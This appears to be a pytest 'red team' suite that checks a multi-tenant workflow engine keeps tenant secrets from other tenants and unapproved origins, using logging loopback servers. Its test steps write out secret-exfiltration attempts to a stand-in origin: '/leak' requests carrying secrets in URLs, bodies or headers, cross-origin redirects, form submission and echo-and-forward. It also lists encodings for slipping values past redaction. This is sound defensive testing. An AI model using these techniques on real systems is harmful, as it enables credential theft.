"""Red team: a tenant tries to get another tenant's secret, or its own, out to where it may not go.

Every target is a real HTTP server on loopback that logs what reaches it: "nothing was sent"
means its log stayed empty.
"""

from __future__ import annotations

import base64
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, quote_plus, unquote, urlsplit
from uuid import UUID

import psycopg
import pytest
from psycopg_pool import ConnectionPool

from domain.dev_mode import DEV_TENANT
from domain.session import SessionStatus, StepSpec, WorkflowSession
from engine.executors import Command
from engine.loop.builtin_steps import builtin
from engine.loop.limits import session_config
from engine.loop.task_loop import TaskLoop
from engine.ownership.leases import FirstLease, Leases
from engine.secrets import Secrets, strings_in
from engine.settings import Settings
from engine.store.app import Stepline
from engine.tenancy.policies import Policies
from engine.tenancy.secret_store import MasterKey, SecretStore
from tests import workloads
from tests.conftest import MASTER_KEY

A_VALUE = "acme-0nly/Pa55+wörd"
A_KEY = "acme-Api-Key/+=="
"""Sent in a header, which holds ASCII only."""
LOOPBACK = ["127.0.0.1", "localhost"]
FORM = (
    '<form action="/submit"><label>Password <input name="pw" type="password"></label>'
    "<button>Go</button></form>"
)


@dataclass
class Receiver:
    """An HTTP server on loopback that logs every request and answers as its path says:
    `/redirect?to=URL` redirects there; a POST of {"pw": ...} to `/echo?as=ENCODING` has the
    value sent back in that encoding, to `/json` as {"echo": ...}; anything else is "ok"."""

    url: str = ""
    log: list[dict[str, Any]] = field(default_factory=list)


ENCODINGS = {
    "raw": lambda v: v,
    "url-encoded": lambda v: quote(v, safe=""),
    "url-encoded, / kept": quote,
    "form-encoded": quote_plus,
    "base64": lambda v: base64.b64encode(v.encode()).decode(),
    "base64 unpadded": lambda v: base64.b64encode(v.encode()).decode().rstrip("="),
    "url-safe base64": lambda v: base64.urlsafe_b64encode(v.encode()).decode(),
    "url-safe base64 unpadded": lambda v: base64.urlsafe_b64encode(v.encode()).decode().rstrip("="),
    "hex": lambda v: v.encode().hex(),
    "HEX": lambda v: v.encode().hex().upper(),
    "reversed": lambda v: v[::-1],
    "JSON-escaped": lambda v: json.dumps(v)[1:-1],
}


def _handler(receiver: Receiver) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            parts = urlsplit(self.path)
            receiver.log.append({"path": self.path, "headers": dict(self.headers.items())})
            if parts.path == "/redirect":
                self.send_response(302)
                self.send_header("Location", parse_qs(parts.query)["to"][0])
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            if parts.path == "/form":  # a page that sends what is typed into it
                self._answer(FORM, "text/html; charset=utf-8")
                return
            self._answer("ok")

        def do_POST(self) -> None:
            parts = urlsplit(self.path)
            sent = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            receiver.log.append({"path": self.path, "body": sent})
            if parts.path == "/json":
                self._answer(json.dumps({"echo": sent["pw"]}), "application/json")
            elif parts.path == "/echo":
                encoding = parse_qs(parts.query)["as"][0]
                self._answer(f"the password, {encoding}: <{ENCODINGS[encoding](sent['pw'])}>")
            else:
                self._answer("ok")

        def _answer(self, body: str, content_type: str = "text/plain; charset=utf-8") -> None:
            encoded = body.encode()
            self.send_response(200)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(encoded)))
            self.end_headers()
            self.wfile.write(encoded)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Handler


@pytest.fixture
def receivers() -> Iterator[tuple[Receiver, Receiver]]:
    """Two receivers on loopback: two origins (their ports differ)."""
    made, servers = [], []
    for _ in range(2):
        receiver = Receiver()
        server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(receiver))
        receiver.url = f"http://127.0.0.1:{server.server_address[1]}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        made.append(receiver)
        servers.append(server)
    yield made[0], made[1]
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.fixture
def store(fresh_database_url: str) -> Iterator[SecretStore]:
    with ConnectionPool(
        fresh_database_url, min_size=1, max_size=2, kwargs={"autocommit": True}
    ) as pool:
        secret_store = SecretStore(
            pool, MasterKey(Settings(master_key=MASTER_KEY).master_key_bytes())
        )
        yield secret_store


@pytest.fixture
def loop(fresh_app: Stepline, store: SecretStore, tmp_path: Path) -> Iterator[TaskLoop]:
    """A task loop whose environment holds ENV_ONLY (the dev tenant's), where the operator
    let acme and globex reach loopback (the targets of these tests)."""
    settings = Settings(database_url=None, data_dir=tmp_path, retry_backoff_ms=10)
    policies = Policies(fresh_app, settings)
    for tenant in ("acme", "globex"):
        policies.set(tenant, {"egress_allow": LOOPBACK}, actor="operator")
    definitions = builtin()
    definitions.add(  # a request carrying a header: the case a redirect must not carry on
        r"GET (?P<url>\S+) with header (?P<name>[A-Za-z-]+): (?P<value>\S+)",
        lambda m: [
            Command(
                "http",
                "request",
                {"method": "GET", "url": m["url"], "headers": {m["name"]: m["value"]}},
            )
        ],
    )
    task_loop = TaskLoop(
        fresh_app,
        settings,
        definitions,
        Secrets({"ENV_ONLY": "env-0nly-value"}),
        policies=policies,
        secret_store=store,
    )
    yield task_loop
    task_loop.close()


def run(
    loop: TaskLoop, tenant: str, base_url: str, *steps: str, executor: str = "http"
) -> WorkflowSession:
    session_id = workloads.create_session(
        loop.app,
        name="red team",
        steps=[StepSpec(step) for step in steps],
        tenant=tenant,
        actor="mallory",
        config=session_config(loop.settings, {"executor": executor, "base_url": base_url}),
    )
    loop.drive(session_id, threading.Event())
    return loop.app.get_session(session_id)


def failure_code(session: WorkflowSession) -> str:
    assert session.status is SessionStatus.FAILED, session.status
    assert session.error is not None
    code: str = session.error["code"]
    return code


def recorded_strings(app: Stepline, session_id: UUID) -> list[str]:
    return [text for event in app.history(session_id) for text in strings_in(vars(event))]


# ---- whose secrets ------------------------------------------------------------------------


def test_another_tenants_secret_is_not_found_and_nothing_is_sent(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver]
) -> None:
    target, _ = receivers
    store.put("acme", "A_ONLY", A_VALUE, origins=[target.url])

    session = run(loop, "globex", target.url, "GET /leak?s={{secrets.A_ONLY}}")

    assert failure_code(session) == "SECRET_NOT_FOUND"
    assert target.log == []


def test_the_secrets_read_with_a_first_lease_are_its_tenants_and_fill_in_no_other_tenants(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver]
) -> None:
    """A new session's first lease reads the offer's tenant's secrets in the same statement
    (`Leases.acquire_first_and_read`), for the run not to read them again. An offer naming
    another tenant (forged: anything can NOTIFY) reads that tenant's, which a run of the
    session never uses: it reads its own tenant's instead, and nothing is sent."""
    target, _ = receivers
    store.put("acme", "A_ONLY", A_VALUE, origins=[target.url])
    store.put("globex", "G_ONLY", "globex-0nly-value", origins=[target.url])
    leases = Leases(store.pool, lease_s=5)
    events = loop.app.events_relation

    def taken(tenant: str, named: str, step: str) -> tuple[UUID, FirstLease]:
        config = session_config(loop.settings, {"executor": "http", "base_url": target.url})
        session_id = workloads.create_session(
            loop.app,
            name="red team",
            steps=[StepSpec(step)],
            tenant=tenant,
            actor="mallory",
            config=config,
        )
        first = leases.acquire_first_and_read(session_id, named, "w1", None, events)
        assert first is not None
        return session_id, first

    forged, first = taken("globex", "acme", "GET /leak?s={{secrets.A_ONLY}}")
    assert first.secrets.tenant == "acme"
    assert [s.name for s in store.secrets_of("acme", read=first.secrets)] == ["A_ONLY"]
    assert [s.name for s in store.secrets_of("globex", read=first.secrets)] == ["G_ONLY"]
    saved = loop.app.session_of_records(forged, first.records)
    loop.drive(forged, threading.Event(), saved=saved, secrets=first.secrets)
    assert failure_code(loop.app.get_session(forged)) == "SECRET_NOT_FOUND"
    assert target.log == []

    own, first = taken("acme", "acme", "GET /use?s={{secrets.A_ONLY}}")
    saved = loop.app.session_of_records(own, first.records)
    loop.drive(own, threading.Event(), saved=saved, secrets=first.secrets)
    assert loop.app.get_session(own).status is SessionStatus.COMPLETED
    assert len(target.log) == 1
    assert A_VALUE in unquote(target.log[0]["path"])


def test_an_environment_secret_is_not_usable_by_a_tenant_other_than_the_dev_one(
    loop: TaskLoop, receivers: tuple[Receiver, Receiver]
) -> None:
    target, _ = receivers

    session = run(loop, "acme", target.url, "GET /leak?s={{secrets.ENV_ONLY}}")

    assert failure_code(session) == "SECRET_NOT_FOUND"
    assert target.log == []
    dev = run(loop, DEV_TENANT, target.url, "GET /use?s={{secrets.ENV_ONLY}}")
    assert dev.status is SessionStatus.COMPLETED  # the dev tenant's convenience is kept
    assert target.log[0]["path"] == "/use?s=env-0nly-value"


# ---- where they may go --------------------------------------------------------------------


def test_a_secret_bound_to_one_origin_is_refused_for_another_before_anything_is_sent(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver]
) -> None:
    allowed, other = receivers
    store.put("acme", "A_ONLY", A_VALUE, origins=[allowed.url])
    store.put("acme", "A_KEY", A_KEY, origins=[allowed.url])

    in_url = run(loop, "acme", allowed.url, f"GET {other.url}/leak?s={{{{secrets.A_ONLY}}}}")
    in_body = run(
        loop, "acme", allowed.url, f'POST {other.url}/leak with {{"s": "{{{{secrets.A_ONLY}}}}"}}'
    )
    in_header = run(
        loop, "acme", allowed.url, f"GET {other.url}/leak with header X-Key: {{{{secrets.A_KEY}}}}"
    )

    assert [failure_code(s) for s in (in_url, in_body, in_header)] == ["SECRET_ORIGIN_REFUSED"] * 3
    assert other.log == []
    assert allowed.log == []


def test_a_secret_stored_without_origins_goes_only_to_the_workflows_base_url(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver]
) -> None:
    base, other = receivers
    store.put("acme", "A_ONLY", A_VALUE, origins=[])

    refused = run(loop, "acme", base.url, f"GET {other.url}/leak?s={{{{secrets.A_ONLY}}}}")
    sent = run(loop, "acme", base.url, "GET /login?s={{secrets.A_ONLY}}")

    assert failure_code(refused) == "SECRET_ORIGIN_REFUSED"
    assert other.log == []
    assert sent.status is SessionStatus.COMPLETED
    assert A_VALUE in unquote(base.log[0]["path"])


def test_a_redirect_does_not_carry_a_secret_header_to_another_origin(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver]
) -> None:
    allowed, other = receivers
    store.put("acme", "A_KEY", A_KEY, origins=[allowed.url])

    session = run(
        loop,
        "acme",
        allowed.url,
        f"GET /redirect?to={other.url}/landing with header X-Key: {{{{secrets.A_KEY}}}}",
    )

    assert failure_code(session) == "SECRET_ORIGIN_REFUSED"
    assert [r["headers"].get("X-Key") for r in allowed.log] == [A_KEY]  # sent where allowed
    assert other.log == []  # and not one step further


def test_a_redirect_within_the_secrets_origins_is_followed(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver]
) -> None:
    allowed, _ = receivers
    store.put("acme", "A_KEY", A_KEY, origins=[allowed.url])

    session = run(
        loop,
        "acme",
        allowed.url,
        f"GET /redirect?to={allowed.url}/landing with header X-Key: {{{{secrets.A_KEY}}}}",
        "expect status 200",
    )

    assert session.status is SessionStatus.COMPLETED
    assert [r["path"] for r in allowed.log] == [f"/redirect?to={allowed.url}/landing", "/landing"]


def test_a_secret_echoed_into_a_variable_is_refused_for_another_origin(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver]
) -> None:
    allowed, other = receivers
    store.put("acme", "A_ONLY", A_VALUE, origins=[allowed.url])

    session = run(
        loop,
        "acme",
        allowed.url,
        'POST /json with {"pw": "{{secrets.A_ONLY}}"}',
        "save json echo as echoed",  # the allowed origin's answer: the value, in a variable
        f"GET {other.url}/leak?s={{{{vars.echoed}}}}",
    )

    assert failure_code(session) == "SECRET_ORIGIN_REFUSED"
    assert other.log == []


def test_a_browser_fills_a_secret_only_into_a_page_of_its_origin(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver]
) -> None:
    allowed, other = receivers
    store.put("acme", "A_ONLY", A_VALUE, origins=[allowed.url])

    session = run(
        loop,
        "acme",
        other.url,
        "open /form",
        'fill "Password" with "{{secrets.A_ONLY}}"',
        'click "Go"',
        executor="browser",
    )

    assert failure_code(session) == "SECRET_ORIGIN_REFUSED"
    assert not [r for r in other.log if r["path"].startswith("/submit")]  # never sent


def test_a_browser_does_not_put_a_bound_secret_in_an_address_a_redirect_could_carry_off(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver]
) -> None:
    allowed, other = receivers
    store.put("acme", "A_ONLY", A_VALUE, origins=[allowed.url])

    session = run(
        loop,
        "acme",
        allowed.url,
        f"open /redirect?to={other.url}/got?{{{{secrets.A_ONLY}}}}",
        executor="browser",
    )

    assert failure_code(session) == "SECRET_ORIGIN_REFUSED"
    assert other.log == []
    assert allowed.log == []


# ---- at rest ------------------------------------------------------------------------------


def test_the_stored_row_holds_no_value_and_a_copy_under_another_tenant_or_name_does_not_open(
    store: SecretStore, fresh_database_url: str
) -> None:
    store.put("acme", "A_ONLY", A_VALUE, origins=[])
    with psycopg.connect(fresh_database_url, autocommit=True) as conn:
        row = conn.execute("SELECT tenant_secrets::text, ciphertext FROM tenant_secrets").fetchone()
        assert row is not None
        assert A_VALUE not in row[0]
        assert A_VALUE.encode() not in bytes(row[1])
        for tenant, name in (("globex", "A_ONLY"), ("globex", "STOLEN"), ("acme", "RENAMED")):
            conn.execute(
                "INSERT INTO tenant_secrets SELECT %s, %s, nonce, ciphertext, origins, created_at, "
                "updated_at FROM tenant_secrets WHERE tenant = 'acme' AND name = 'A_ONLY'",
                (tenant, name),
            )

    assert store.secrets_of("globex") == []
    assert [s.name for s in store.secrets_of("acme")] == ["A_ONLY"]  # RENAMED does not open
    assert store.secrets_of("acme")[0].value == A_VALUE


def test_each_write_is_sealed_under_a_fresh_nonce(
    store: SecretStore, fresh_database_url: str
) -> None:
    sealed = []
    for _ in range(2):
        store.put("acme", "A_ONLY", A_VALUE, origins=[])
        with psycopg.connect(fresh_database_url) as conn:
            sealed.append(conn.execute("SELECT nonce, ciphertext FROM tenant_secrets").fetchone())
    assert None not in sealed
    assert sealed[0][0] != sealed[1][0]
    assert sealed[0][1] != sealed[1][1]


# ---- what is recorded ---------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_each_encoding_of_a_value_the_target_sends_back_is_redacted_in_what_is_recorded(
    loop: TaskLoop, store: SecretStore, receivers: tuple[Receiver, Receiver], encoding: str
) -> None:
    target, _ = receivers
    store.put("acme", "A_ONLY", A_VALUE, origins=[target.url])
    encoded = ENCODINGS[encoding](A_VALUE)

    session = run(
        loop,
        "acme",
        target.url,
        f'POST /echo?as={quote(encoding)} with {{"pw": "{{{{secrets.A_ONLY}}}}"}}',
    )

    assert session.status is SessionStatus.COMPLETED
    recorded = recorded_strings(loop.app, session.id)
    assert any("<{{secrets.A_ONLY}}>" in text for text in recorded)
    assert not [text for text in recorded if encoded in text]
